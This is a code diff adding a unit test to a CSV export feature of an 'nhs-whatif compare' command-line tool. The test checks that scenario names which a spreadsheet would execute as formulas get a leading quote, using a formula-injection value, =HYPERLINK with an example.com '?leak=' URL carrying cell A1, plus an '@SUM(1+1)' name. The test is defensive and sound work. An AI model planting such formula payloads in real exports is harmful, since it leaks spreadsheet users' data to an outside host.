@@ -81,6 +81,18 @@ describe('nhs-whatif compare', () => {
     expect(rows.find((row) => row[0] === 'nhs_capacity_growth')!.slice(4, 12)).toEqual(['', '', '0.8', '', '', '', '', '']);
   });
 
+  it('prefixes scenario names a spreadsheet would run as formulas with a quote, and keeps negative numbers raw', () => {
+    const { code, stdout } = cli(
+      'compare', BASELINE, 'test/fixtures/cli/hyperlink-name.yaml', 'test/fixtures/cli/at-name.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'csv',
+    );
+    const hyperlink = `'=HYPERLINK("http://example.com/?leak="&A1,"Baseline")`;
+    expect(parseCsv(stdout)).toEqual([
+      ['cell', 'part', 'year', 'unit', 'Baseline', hyperlink, "'@SUM(1+1)", `${hyperlink} change`, `${hyperlink} relative change`, "'@SUM(1+1) change", "'@SUM(1+1) relative change", 'error'],
+      ['cumulative_extra_to_nhs', 'value', '', '£bn', '16.598466748235303', '8.189046581238404', '16.598466748235303', '-8.409420166996899', '-0.5066383717574975', '0', '0', ''],
+    ]);
+    expect(code).toBe(0);
+  });
+
   it('gives the reason for each ERROR in the CSV error column', () => {
     const { code, stdout } = cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'csv');
     const rows = parseCsv(stdout);
